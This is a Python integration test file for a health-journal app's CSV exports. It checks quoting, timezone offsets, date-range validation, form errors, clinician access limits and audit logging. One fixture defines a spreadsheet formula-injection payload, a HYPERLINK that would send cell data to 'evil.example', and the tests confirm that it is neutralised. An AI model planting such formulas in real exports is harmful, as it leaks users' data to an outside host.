"""CSV exports over HTTP: what the patient and a linked clinician download is RFC 4180 that
Python's csv module reads back to the stored values, with instants in the patient's offset,
formula cells neutralised, a date-range filter, and a header-only file for an empty range."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from lift.domain import export
from tests.integration.conftest import Person
from tests.integration.sharing_helpers import (
    invite, seed_checkins, seed_scale, seed_session, shared_with, user_id,
)

FORMULA_NOTE = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'


def read(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text[:500]
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith("attachment; filename=\"lift-")
    # UTF-8 with a byte-order mark, so Excel reads accents and dashes in notes as written.
    assert response.content.startswith("\ufeff".encode())
    body = response.content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    return rows


def header(response) -> list[str]:
    return next(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


@pytest.fixture
def checkins(patient, database):
    notes = {0: FORMULA_NOTE, 1: 'quote " comma , and\na line break', 2: "+1 day", 3: "-", 4: "@home", 5: "ünïcödé ✓"}
    seed_checkins(database, "pat@example.com",
                  [(date(2026, 3, day), day % 11, day % 4, notes.get(day % 6, "")) for day in range(1, 31)])
    database.execute("UPDATE checkins SET created_at = local_date || 'T13:30:00Z'")
    database.commit()


async def test_the_patients_checkins_parse_back_to_the_stored_values(patient, checkins, database):
    rows = read(await patient.get("/export?kind=checkins"))
    stored = database.execute("SELECT local_date, mood, anxiety, sleep_hours, thoughts, note FROM checkins"
                              " ORDER BY local_date").fetchall()
    assert len(rows) == len(stored) == 30
    for row, (day, mood, anxiety, sleep, thoughts, note) in zip(rows, stored):
        assert (row["date"], int(row["mood"]), int(row["anxiety"]), float(row["sleep_hours"]),
                int(row["thoughts"])) == (day, mood, anxiety, sleep, thoughts)
        assert row["note"] == export.neutralise(note)
        assert row["timezone"] == "America/New_York" and row["patient_email"] == "pat@example.com"
    assert list(rows[0]) == [c.name for c in export.CHECKIN_COLUMNS]


async def test_a_hyperlink_formula_in_a_note_is_neutralised(patient, checkins):
    response = await patient.get("/export?kind=checkins")
    notes = [row["note"] for row in read(response)]
    assert "'" + FORMULA_NOTE in notes and FORMULA_NOTE not in notes
    for note in notes:
        assert not note.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert '"quote "" comma , and\na line break"' in response.text


async def test_times_carry_the_patients_offset_on_each_side_of_daylight_saving(patient, checkins):
    rows = {row["date"]: row for row in read(await patient.get("/export?kind=checkins"))}
    assert rows["2026-03-07"]["recorded_at"] == "2026-03-07T08:30:00-05:00"
    assert rows["2026-03-09"]["recorded_at"] == "2026-03-09T09:30:00-04:00"


async def test_a_date_range_filters_by_the_patients_local_dates(patient, checkins):
    rows = read(await patient.get("/export?kind=checkins&start=2026-03-10&end=2026-03-12"))
    assert [row["date"] for row in rows] == ["2026-03-10", "2026-03-11", "2026-03-12"]
    assert [row["date"] for row in read(await patient.get("/export?kind=checkins&start=2026-03-29"))] == [
        "2026-03-29", "2026-03-30"]


async def test_an_empty_range_gives_a_header_only_file(patient, checkins):
    response = await patient.get("/export?kind=checkins&start=2025-01-01&end=2025-01-31")
    assert read(response) == []
    assert response.text == "\ufeff" + ",".join(c.name for c in export.CHECKIN_COLUMNS) + "\r\n"
    assert "lift-journal-checkins-2025-01-01-to-2025-01-31.csv" in response.headers["content-disposition"]


async def three_download_forms(people, database, email: str = "pat@example.com",
                               timezone: str = "America/New_York") -> list[tuple[Person, str, str]]:
    """(who, the form's action, its way back) for a patient's own download and both of their
    linked clinician's: the three forms a refused download comes back on."""
    person = people(email)
    await person.sign_up(timezone=timezone)
    doctor = await shared_with(person, people("doctor@example.com"), "clinician")
    pid = user_id(database, email)
    return [(person, "/export", "/account/data"),
            (doctor, f"/clinician/patients/{pid}/export", f"/clinician/patients/{pid}"),
            (doctor, "/clinician/export", "/clinician")]


@pytest.mark.parametrize("query, field, message", [
    ("start=yesterday", "start", "Enter the From date as year-month-day, like 2026-03-01"),
    ("start=2026-03-10&end=2026-03-01", "end", "Enter a To date on or after the From date"),
    ("end=2026-02-30", "end", "Enter the To date as year-month-day"),
    ("start=0202-03-01", "start", "Enter a From date in the years 1900 to 2100"),
])
async def test_a_bad_range_comes_back_on_the_form_saying_what_to_fix(people, database, query, field, message):
    """As any form in Lift: the same form, filled in as sent, the wrong date marked and said what
    to fix beside it (422), with the way back to the page it was on; not an error page whose
    only button goes home. The patient's own download and both of a clinician's."""
    for who, action, back in await three_download_forms(people, database):
        response = await who.get(f"{action}?kind=sessions&{query}")
        assert response.status_code == 422, action
        page = response.text
        assert f'<form method="get" action="{action}"' in page and f'href="{back}"' in page
        assert f'id="{field}-error">{message}' in page
        assert f'id="{field}" name="{field}" type="date"' in page and 'aria-invalid="true"' in page
        assert page.count('aria-invalid="true"') == 1
        assert '<input type="radio" id="kind-sessions" name="kind" value="sessions" checked>' in page
        assert page.count(" checked>") == 1
        for name in ("start", "end"):
            if typed := dict(part.split("=") for part in query.split("&")).get(name):
                assert f'value="{typed}"' in page
        assert "Nothing was downloaded. Check the dates below." in page
        assert "Go to the home page" not in page
    # A refused download is no export: the patient's log holds none.
    assert database.execute("SELECT count(*) FROM audit_log WHERE action = 'export'").fetchone()[0] == 0


@pytest.mark.parametrize("query", ["kind=sessions&end=9999-12-31", "kind=checkins&start=0001-01-01"])
async def test_a_date_near_the_ends_of_the_calendar_is_refused_before_the_file_starts(people, database, query):
    # Tokyo is ahead of UTC: the UTC start of its 0001-01-01 would be in year 0.
    for who, url, _ in await three_download_forms(people, database, "tokyo@example.com", "Asia/Tokyo"):
        response = await who.get(f"{url}?{query}")
        assert response.status_code == 422, url
        assert "date in the years 1900 to 2100." in response.text


@pytest.mark.parametrize("kind", ["passwords", "", "２", "checkins%00", "x" * 3000])
async def test_an_unknown_kind_of_file_comes_back_on_the_form_to_choose_one(people, database, kind):
    """An address edited by hand (?kind=passwords): the form again, nothing chosen, saying to
    choose a file (422), and the dates kept, for the patient and both of a clinician's; never a
    bare "not found", and never a download."""
    for who, action, _ in await three_download_forms(people, database):
        response = await who.get(f"{action}?kind={kind}&start=2026-01-02")
        assert response.status_code == 422, action
        page = response.text
        assert f'<form method="get" action="{action}"' in page
        assert 'aria-describedby="kind-error"' in page and 'id="kind-error">Choose which file to download.' in page
        assert 'value="2026-01-02"' in page and 'aria-invalid="true"' not in page
        assert "Nothing was downloaded. Check the choices below." in page
        assert page.count(" checked>") == (1 if kind == "" else 0)  # empty: the default is chosen
    assert database.execute("SELECT count(*) FROM audit_log WHERE action = 'export'").fetchone()[0] == 0


async def test_the_scales_file_measures_change_response_and_remission(patient, database):
    seed_scale(database, "pat@example.com", date(2026, 1, 5), 20)
    seed_scale(database, "pat@example.com", date(2026, 2, 5), 10)
    seed_scale(database, "pat@example.com", date(2026, 3, 5), 4)
    seed_scale(database, "pat@example.com", date(2026, 3, 6), 9, "gad7")
    rows = read(await patient.get("/export?kind=scales"))
    assert [(r["instrument"], r["total"], r["band"], r["is_baseline"], r["change_from_baseline"], r["response"],
             r["remission"]) for r in rows] == [
        ("phq9", "20", "Severe", "1", "", "", ""),
        ("phq9", "10", "Moderate", "0", "-10", "yes", "no"),
        ("phq9", "4", "Minimal", "0", "-16", "yes", "yes"),
        ("gad7", "9", "Mild", "1", "", "", ""),
    ]
    assert rows[0]["taken_at"] == "2026-01-05T10:00:00-05:00"


async def test_the_scales_file_has_the_difficulty_answer_of_a_phq9_and_of_a_gad7(patient):
    for instrument, items, difficulty in (("phq9", 9, "1"), ("gad7", 7, "2")):
        form = {f"{instrument}_{n}": "0" for n in range(1, items + 1)} | {"difficulty": difficulty}
        assert (await patient.post(f"/scales/{instrument}", form, follow_redirects=True)).status_code == 200
    rows = read(await patient.get("/export?kind=scales"))
    assert [(r["instrument"], r["total"], r["difficulty"]) for r in rows] == [("phq9", "0", "1"), ("gad7", "0", "2")]


async def test_the_sessions_file_lists_logs_and_side_effects(patient, database):
    seed_session(database, "pat@example.com", "2026-07-01T14:00:00Z", "done", note="-ok", effects={"nausea": "mild"},
                 mood=(3, 7))
    seed_session(database, "pat@example.com", "2026-07-04T14:00:00Z", "planned")
    rows = read(await patient.get("/export?kind=sessions"))
    assert [(r["date"], r["starts_at"], r["status"], r["mood_before"], r["mood_after"], r["bp_before"],
             r["side_effects"], r["note"]) for r in rows] == [
        ("2026-07-01", "2026-07-01T10:00:00-04:00", "done", "3", "7", "128/82", "Nausea or vomiting: mild", "'-ok"),
        ("2026-07-04", "2026-07-04T10:00:00-04:00", "planned", "", "", "", "", ""),
    ]


async def test_without_a_to_date_the_file_and_its_name_go_up_to_the_latest_entry(patient, database):
    seed_session(database, "pat@example.com", "2026-07-01T14:00:00Z", "done")
    seed_session(database, "pat@example.com", "2099-07-04T14:00:00Z", "planned")
    response = await patient.get("/export?kind=sessions")
    assert [(r["date"], r["status"]) for r in read(response)] == [("2026-07-01", "done"), ("2099-07-04", "planned")]
    assert 'filename="lift-journal-sessions-start-to-latest.csv"' in response.headers["content-disposition"]
    form = (await patient.get("/account/data")).text
    assert "Leave the dates empty for everything from the first entry to the latest, planned sessions included." \
        in form


async def test_the_definitions_file_documents_every_column_and_rule(patient):
    rows = read(await patient.get("/export?kind=definitions"))
    terms = {(r["file"], r["term"]) for r in rows}
    assert ("checkins", "note") in terms and ("scales", "response") in terms and ("scales", "PHQ-9 bands") in terms


async def test_a_linked_clinician_exports_one_patient_or_the_whole_panel(patient, other_patient, people, checkins,
                                                                        database):
    doctor = await shared_with(patient, people("doctor@example.com"), "clinician")
    path, _ = await invite(other_patient, "clinician")
    await doctor.post(f"{path}/accept")
    seed_checkins(database, "other@example.com", [(date(2026, 3, 3), 2, 0, "=1+1")])
    pid = user_id(database, "pat@example.com")
    one = read(await doctor.get(f"/clinician/patients/{pid}/export?kind=checkins&start=2026-03-01&end=2026-03-05"))
    assert {r["patient_email"] for r in one} == {"pat@example.com"} and len(one) == 5
    everyone = read(await doctor.get("/clinician/export?kind=checkins&start=2026-03-01&end=2026-03-05"))
    assert len(everyone) == 6 and {r["patient_email"] for r in everyone} == {"pat@example.com", "other@example.com"}
    assert "'=1+1" in [r["note"] for r in everyone]


async def test_a_clinician_cannot_export_a_patient_who_did_not_link_to_them(patient, other_patient, people, checkins,
                                                                            database):
    doctor = await shared_with(patient, people("doctor@example.com"), "clinician")
    other = user_id(database, "other@example.com")
    assert (await doctor.get(f"/clinician/patients/{other}/export?kind=checkins")).status_code == 404
    rows = read(await doctor.get("/clinician/export?kind=checkins"))
    assert {r["patient_email"] for r in rows} == {"pat@example.com"}


async def test_an_empty_panel_exports_a_header_only_file(people, patient):
    doctor = await shared_with(patient, people("doctor@example.com"), "clinician")
    response = await doctor.get("/clinician/export?kind=sessions")
    # Every column, then the clinician's own name for the patient.
    assert read(response) == [] and header(response) == [c.name for c in export.SESSION_COLUMNS] + [
        "your_name_for_patient"]


async def test_the_download_is_streamed_without_a_length_known_in_advance(patient, checkins):
    response = await patient.get("/export?kind=checkins")
    assert "content-length" not in response.headers
    assert response.headers["cache-control"] == "no-store"
